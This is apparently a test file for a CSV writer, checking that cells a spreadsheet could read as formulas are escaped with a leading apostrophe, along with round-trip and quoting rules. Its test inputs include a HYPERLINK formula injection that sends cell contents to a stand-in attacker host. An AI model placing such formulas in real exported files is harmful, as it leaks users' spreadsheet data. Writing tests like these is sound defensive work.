import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvLine } from '../../src/domain/csv.ts';
import { hostileAddress, hostileText } from '../support/hostileText.ts';
import { readCsv } from '../support/readCsv.ts';

const write = (rows: (string | number)[][]) => rows.map(csvLine).join('');
const cell = fc.oneof(hostileText, hostileAddress, fc.string(), fc.integer());

test('whatever the cells contain, a reader of RFC 4180 finds them again, but for the guard', () => {
  const table = fc
    .integer({ min: 2, max: 5 })
    .chain((width) => fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 6 }));
  fc.assert(
    fc.property(table, (rows) => {
      const found = readCsv(write(rows));
      expect(found.length).toBe(rows.length);
      rows.flat().forEach((wanted, index) => {
        const text = found.flat()[index] ?? '';
        expect([String(wanted), `'${wanted}`]).toContain(text);
        if (typeof wanted === 'number') expect(text).toBe(String(wanted));
        else expect(text).not.toMatch(/^[\s"]*[=+\-@]|^[\t\r\n]/);
      });
    }),
  );
});

describe('a cell that a spreadsheet could take for a formula is guarded', () => {
  test.each([
    ['=1+1'],
    ['+1'],
    ['-1'],
    ['@SUM(A1)'],
    ['  =1'],
    ['"=1'],
    ["'=1"],
    ['\t=1'],
    ['\ttext'],
    ['\r=1'],
    ['\n=1'],
    ['\u00a0=1'],
    ['\u200b=1'],
    ['\ufeff=1'],
    ['＝1'],
    ['=HYPERLINK("https://evil.example?"&A1,"Click")'],
  ])('%j', (text) => {
    expect(readCsv(write([[text, 'x']]))).toEqual([[`'${text}`, 'x']]);
  });

  test.each([['a=b'], ['1-2'], ['a@mail.example'], ['"quoted"'], [''], ['https://example.com/?a=b']])(
    'and %j is not',
    (text) => {
      expect(readCsv(write([[text, 'x']]))).toEqual([[text, 'x']]);
    },
  );

  test('nor is a number', () => {
    expect(write([[-5, 0]])).toBe('-5,0\r\n');
  });
});

test('only what needs quotes has them, lines end with CR and LF', () => {
  expect(
    write([
      ['a', 'b,c'],
      ['say "x"', 'two\nlines'],
    ]),
  ).toBe('a,"b,c"\r\n"say ""x""","two\nlines"\r\n');
});
